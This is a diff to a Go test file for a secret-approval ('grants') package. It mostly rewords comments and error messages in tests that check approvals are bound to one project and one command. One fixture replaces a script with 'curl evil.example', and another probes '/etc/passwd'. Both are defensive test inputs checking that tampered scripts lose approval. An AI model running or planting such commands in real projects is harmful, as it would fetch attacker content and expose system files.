@@ -25,7 +25,7 @@ func write(t *testing.T, dir string, files map[string]string) {
 	}
 }
 
-// asked is what a project asks for with one source.
+// asked returns the requests of a project with one source.
 func asked(t *testing.T, dir string, source automation.SecretSource) []Ask {
 	t.Helper()
 	asks, err := Asks(dir, map[string]automation.SecretSource{"KEY": source}, []string{"KEY"})
@@ -46,7 +46,7 @@ func TestTheWordIsForOneProjectAndOneCommand(t *testing.T) {
 	for _, source := range given {
 		ask := asked(t, dir, source)[0]
 		if grants.Has(ask) {
-			t.Errorf("%s is allowed before anybody said so", ask)
+			t.Errorf("%s is allowed before it was approved", ask)
 		}
 		if err := grants.Add(ask); err != nil {
 			t.Fatal(err)
@@ -62,10 +62,10 @@ func TestTheWordIsForOneProjectAndOneCommand(t *testing.T) {
 		exec("sh", "vault.sh", "a"), exec("sh vault.sh"), exec("./vault.sh"), exec("./vault.sh", "a", ""), {File: "/etc/passwd"}, exec("/etc/hostname"),
 	} {
 		if ask := asked(t, dir, source)[0]; grants.Has(ask) {
-			t.Errorf("%s is allowed, and nobody said so", ask)
+			t.Errorf("%s is allowed without approval", ask)
 		}
 	}
-	// The encrypted secrets change with every secret, the script must not.
+	// The encrypted file may change, the script may not.
 	write(t, dir, map[string]string{"vault.sh": "curl evil.example", "secrets.yaml": "b"})
 	for i, want := range []bool{false, false, true} {
 		if ask := asked(t, dir, given[i])[0]; grants.Has(ask) != want {
@@ -74,7 +74,7 @@ func TestTheWordIsForOneProjectAndOneCommand(t *testing.T) {
 	}
 	link := filepath.Join(t.TempDir(), "link")
 	if err := os.Symlink(dir, link); err == nil && !grants.Has(asked(t, link, given[2])[0]) {
-		t.Error("the same project is another one by a link")
+		t.Error("the same project through a link counts as another one")
 	}
 }
 
@@ -105,20 +105,20 @@ func TestGrantsAreTheUsersAlone(t *testing.T) {
 		}
 	}
 	if !grants.Has(ask) {
-		t.Error("the word is forgotten")
+		t.Error("the approval is forgotten")
 	}
 	if err := os.Chmod(path, 0o666); err != nil {
 		t.Fatal(err)
 	}
 	if grants.Has(ask) {
-		t.Error("a file that everybody may write to counts as the user's word")
+		t.Error("a file that everybody may write to counts as approval")
 	}
 	if err := os.WriteFile(path, []byte("{}"), 0o600); err != nil {
 		t.Fatal(err)
 	}
 	_ = os.Chmod(path, 0o600) // it was readable before
 	if grants.Has(ask) {
-		t.Error("another content counts as the user's word")
+		t.Error("other content counts as approval")
 	}
 }
 
@@ -173,8 +173,8 @@ func TestMachineVariables(t *testing.T) {
 	}
 }
 
-// TestSecurityPageListsTheVariables holds the table in docs/security.md to the
-// one here; it is renewed with SEGUE_UPDATE=1.
+// TestSecurityPageListsTheVariables checks that the table in docs/security.md
+// matches this package. SEGUE_UPDATE=1 renews it.
 func TestSecurityPageListsTheVariables(t *testing.T) {
 	const begin, end, page = "<!-- variables: begin -->\n", "<!-- variables: end -->", "../docs/security.md"
 	var table strings.Builder
